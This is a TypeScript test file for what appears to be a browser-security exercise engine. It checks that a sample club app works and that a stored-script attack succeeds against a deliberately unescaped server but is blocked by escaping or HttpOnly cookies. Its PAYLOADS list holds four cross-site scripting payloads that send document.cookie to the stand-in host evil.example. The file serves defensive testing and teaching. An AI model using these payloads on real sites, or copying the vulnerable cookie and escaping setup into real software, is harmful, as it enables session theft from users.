// People in browsers through the whole engine: the core's user agent, parse5, page realms, and an app
// in Express in the sandbox.
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { test } from 'node:test';
import { Ajv, type AnySchema } from 'ajv';
import { createEngine } from '../../wasm/engine/create-engine.js';
import type { Engine } from '../../wasm/engine/engine.js';
import { loadNodeAssets, loadNodeEngine } from '../../wasm/engine/load-node.js';
import type { CaseResult } from '../../wasm/engine/report.js';
import { clubExercise, clubServer } from './club-exercise.js';

const engine = await loadNodeEngine();
const VULNERABLE = clubServer({ escape: false, cookie: `{ sameSite: 'none', secure: true }` });
const HARDENED = clubServer({ escape: true, cookie: `{ httpOnly: true, sameSite: 'lax', secure: true }` });

async function story(steps: readonly object[], server = HARDENED): Promise<CaseResult> {
  const report = await engine.grade(clubExercise(steps), { 'server.js': server }, { seed: 7 });
  assert.equal(report.problem, null, report.problem?.message);
  const [played] = report.cases;
  assert.ok(played);
  return played;
}

// The core whose one agent is tests/wasm/stored_script.cpp.
const folder = new URL(`../../${process.env['PARAPET_WASM_DIR'] ?? 'build/wasm'}/`, import.meta.url);
const testCore = new URL('test-browser.wasm', folder);

async function attackedEngine(): Promise<Engine> {
  const core = async (): Promise<WebAssembly.Module> =>
    WebAssembly.compile(new Uint8Array(await readFile(testCore)));
  return createEngine({ ...(await loadNodeAssets()), core });
}

function theft(payload: string): object {
  return {
    id: 'theft',
    agent: 'stored-script',
    group: 'attack',
    title: 'A comment with a script in it',
    severity: 'critical',
    position: { victim: 'ada', hosts: ['evil.example'] },
    options: { payload: encodeURIComponent(payload) },
    counts: ['learned:private'],
    rule: 'What a visitor writes is text.',
    explain: 'It ran in the page of whoever read it.',
    intended: ['cookie', 'policy'],
    sources: ['OWASP ASVS 5.0, 1.2.1'],
  };
}

const PAYLOADS = {
  'a script that sets the address of an image': `<script>new Image().src = '//evil.example/?' + document.cookie</script>`,
  'a handler that fetches': `<img src=/none onerror="fetch('https://evil.example/', { method: 'POST', mode: 'no-cors', body: document.cookie })">`,
  'a script that leaves the page': `<svg onload="location = 'https://evil.example/?' + document.cookie">`,
  'a form that submits itself': `<form id=f method=post action=https://evil.example/><input name=sid></form><script>f = document.getElementById('f'); f.elements.sid.value = document.cookie.slice(4); f.submit()</script>`,
};

async function schemas(): Promise<Ajv> {
  const ajv = new Ajv({ allowUnionTypes: true });
  for (const name of ['report', 'exercise']) {
    const file = new URL(`../../exercises/${name}.schema.json`, import.meta.url);
    ajv.addSchema(JSON.parse(await readFile(file, 'utf8')) as AnySchema, name);
  }
  return ajv;
}

const served = (played: CaseResult): void => {
  assert.equal(played.outcome, 'served', `${played.effect}\n${JSON.stringify(played.browser, null, 1)}`);
};

test("the page's own script, style and form work", async () => {
  const played = await story([
    {
      visit: '/',
      expect: { title: 'Club', loads: ['/club.css', '/club.js'], shows: { '#status': 'ready' } },
    },
    { fill: { Note: 'milk' }, click: 'Keep', expect: { url: '/', shows: { '#status': 'noted 4' } } },
    { fill: { text: 'sugar' }, submit: '#note', expect: { shows: { '#status': 'noted 5' } } },
    {
      expect: { cookies: { sid: { httpOnly: true, secure: true, sameSite: 'Lax' } } },
    },
  ]);
  served(played);
  assert.ok(
    played.browser?.some((event) => event.kind === 'cookie-sent' && event.subject === 'sid' && event.allowed),
  );
});

test('what a page does wrongly breaks the story and is said in the console', async () => {
  const broken = HARDENED.replace(`textContent = 'ready'`, `nonsense()`);
  const played = await story([{ visit: '/', expect: { shows: { '#status': 'ready' } } }], broken);
  assert.equal(played.outcome, 'broken');
  assert.match(played.effect ?? '', /expected #status with "ready", got loading/);
  assert.ok(
    played.browser?.some(({ kind, detail }) => kind === 'console' && /not a function/.test(detail)),
    JSON.stringify(played.browser),
  );
});

test('the same run gives the same report', async () => {
  const hash = async (): Promise<string> => {
    const report = await engine.grade(clubExercise([{ visit: '/' }]), { 'server.js': HARDENED }, { seed: 3 });
    return report.hash;
  };
  assert.equal(await hash(), await hash());
});

test('the report and the exercise are as their schemas say', async () => {
  const ajv = await schemas();
  const exercise = clubExercise([{ visit: 'club.example/comments' }, { wait: '3 days' }]);
  const report = await engine.grade(exercise, { 'server.js': HARDENED }, { seed: 1 });
  assert.ok(ajv.validate('report', report), ajv.errorsText());
  assert.equal(
    report.cases[0]?.trace.find(({ request }) => request.scheme !== undefined)?.request.scheme,
    'http',
  );
  const manifest = JSON.parse(exercise.json) as { world: unknown; stories: readonly unknown[] };
  assert.ok(ajv.validate('exercise#/definitions/world', manifest.world), ajv.errorsText());
  for (const one of manifest.stories)
    assert.ok(ajv.validate('exercise#/definitions/story', one), ajv.errorsText());
  assert.ok(!ajv.validate('exercise#/definitions/step', { visit: '/', clik: 'x' }));
});

const skip = !existsSync(testCore) && 'build the target test-browser first';
test('a script in a comment steals the session of who reads it', { skip }, async (context) => {
  const attacked = await attackedEngine();
  for (const [name, payload] of Object.entries(PAYLOADS)) {
    await context.test(name, async () => {
      const exercise = clubExercise([], [theft(payload)]);
      const play = async (server: string): Promise<CaseResult> => {
        const report = await attacked.grade(exercise, { 'server.js': server }, { seed: 5, only: ['theft'] });
        assert.ok(report.cases[0], report.problem?.message);
        return report.cases[0];
      };
      const breached = await play(VULNERABLE);
      assert.equal(breached.outcome, 'breached', JSON.stringify([breached.notes, breached.browser], null, 1));
      assert.match(breached.effect ?? '', /^The attacker holds another's card: 1 of 1/);
      assert.ok(
        breached.trace.some(({ actor, request }) => actor === 'ada' && request.host === 'evil.example'),
      );
      assert.ok(breached.browser?.some(({ kind }) => kind === 'script-run'));
      assert.equal((await play(HARDENED)).outcome, 'blocked');
    });
  }

  await context.test('and not when the cookie is HttpOnly, which is named', async () => {
    const server = clubServer({ escape: false, cookie: `{ httpOnly: true, secure: true }` });
    const exercise = clubExercise([], [theft(Object.values(PAYLOADS)[0] ?? '')]);
    const report = await attacked.grade(exercise, { 'server.js': server }, { seed: 5, only: ['theft'] });
    assert.equal(report.cases[0]?.outcome, 'blocked');
    assert.equal(report.cases[0].control?.kind, 'cookie');
    assert.equal(report.cases[0].control.intended, true);
  });
});
